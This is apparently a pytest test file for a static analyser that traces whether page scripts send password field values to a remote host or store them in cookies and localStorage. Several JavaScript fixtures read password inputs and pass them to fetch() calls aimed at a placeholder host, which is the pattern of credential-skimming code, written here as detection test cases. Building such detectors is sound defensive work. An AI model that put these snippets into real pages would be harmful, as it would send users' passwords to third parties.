"""The results of calls of the browser and of libraries: members of objects, and values of stores."""

from __future__ import annotations

import pytest

from tests.client_scripts.test_script_analysis import TAKEN, analysed, channels


@pytest.mark.parametrize(
    ("code", "is_sent"),
    [
        ("o = {}; o.a = p; o.b = 1; fetch('//a.example', o.a);", True),
        ("o = {}; o.a = p; o.b = 1; fetch('//a.example', o.b);", False),
        ("o = {}; o.b = 1; o.a = p; o.c = p; fetch('//a.example', o.c);", True),
        ("o = { a: p, b: 1 }; fetch('//a.example', o.a);", True),
        ("o = { a: p, b: 1 }; fetch('//a.example', o.b);", False),
        ("o = { a: p, b: 1 }; s = extend({}, o); fetch('//a.example', s.b);", False),
        ("o = { a: p, b: 1 }; s = extend({}, o); fetch('//a.example', s.a);", True),
        ("o = { a: p }; fetch('//a.example', JSON.stringify(o));", True),
        ("o = {}; o['a'] = p; fetch('//a.example', o.a);", True),
        ("o = {}; o.a = p; t = ''; for (k in o) t += o[k]; fetch('//a.example', t);", True),
        ("o = {}; o.a = p; o.b = o.a + '1'; fetch('//a.example', o.b);", True),
        ("o = { f: { a: p } }; fetch('//a.example', o.f.a);", True),
        ("this.a = p; fetch('//a.example', this.a);", True),
        ("this.a = p; fetch('//a.example', this.b);", False),
    ],
)
def test_members_of_an_object_are_told_apart(code: str, is_sent: bool) -> None:
    assert bool(channels(TAKEN + code)) is is_sent


@pytest.mark.parametrize(
    "taken",
    [
        "Array.from(f).map(function (e) { return e.value; })",
        "Array.from(f, function (e) { return e.value; })",
        "[...f].map(e => e.value)",
        "[].map.call(f, function (e) { return e.value; })",
        "Array.prototype.slice.call(f).map(function (e) { return e.value; })",
    ],
)
@pytest.mark.parametrize("kind", ["password", "text"])
def test_the_elements_of_a_list(taken: str, kind: str) -> None:
    code = f"var f = document.querySelectorAll('input[type={kind}]'); fetch('//a.example', {{ body: {taken}.join() }});"
    assert bool(channels(code)) is (kind == "password")


def test_a_loop_over_a_list_of_elements() -> None:
    code = "var s = ''; for (var e of document.querySelectorAll('input[type=password]')) s += e.value;"
    assert channels(code + "fetch('//a.example/' + s);")


@pytest.mark.parametrize(
    "taken",
    [
        "_.map(['pw'], function (i) { return document.getElementById(i).value; })",
        "_.map([document.getElementById('pw')], function (e) { return e.value; })",
        "$.map(document.getElementById('pw'), function (e) { return e.value; })",
        "_.map(['user', 'pw'], function (i) { return document.getElementById(i).value; })",
    ],
)
def test_a_library_calls_a_function_with_each_item_of_a_list(taken: str) -> None:
    assert channels(f"fetch('//a.example', {{ body: {taken}.join() }});")
    assert not channels(f"fetch('//a.example', {{ body: {taken.replace('pw', 'user')}.join() }});")
    assert not channels(f"fetch('//a.example', {{ body: {taken.replace('map', 'zip')}.join() }});")


@pytest.mark.parametrize("bound", ["_.bind(s, null)", "$.proxy(s, null)", "_.debounce(s, 100)"])
def test_a_function_that_a_library_binds_is_called(bound: str) -> None:
    assert channels(TAKEN + f"function s(v) {{ fetch('//a.example', v); }} {bound}(p);")
    assert not channels(TAKEN + f"function s(v) {{ fetch('//a.example', v); }} {bound}(1);")


_KEPT = 'document.cookie = "p=" + document.getElementById("pw").value;'


@pytest.mark.parametrize(
    "script",
    [
        'document.getElementById("pw").value = localStorage.getItem("p");',
        'document.getElementById("pw").value = getCookie("p");',
        'var known = getCookie("p"); document.getElementById("pw").value = known;',
        '$("#pw").val(localStorage.p);',
        'document.getElementById("pw").value = document.cookie.split("=")[1];',
    ],
)
def test_a_stored_password_that_is_entered_again_is_remembered(script: str) -> None:
    assert analysed(_KEPT + script).remembers


@pytest.mark.parametrize(
    "script",
    [
        "",
        'document.getElementById("pw").value = "";',
        'document.getElementById("user").value = getCookie("p");',
        'var known = getCookie("p"); document.getElementById("pw").value = other;',
        'if (document.getElementById("pw").value == getCookie("p")) { go(); }',
        'x = $("#pw").val(); y = getCookie("p");',
    ],
)
def test_a_password_that_is_only_stored_is_not_remembered(script: str) -> None:
    assert not analysed(_KEPT + script).remembers


def test_a_page_that_stores_nothing_is_not_asked() -> None:
    assert not analysed('document.getElementById("pw").value = getCookie("p");').remembers
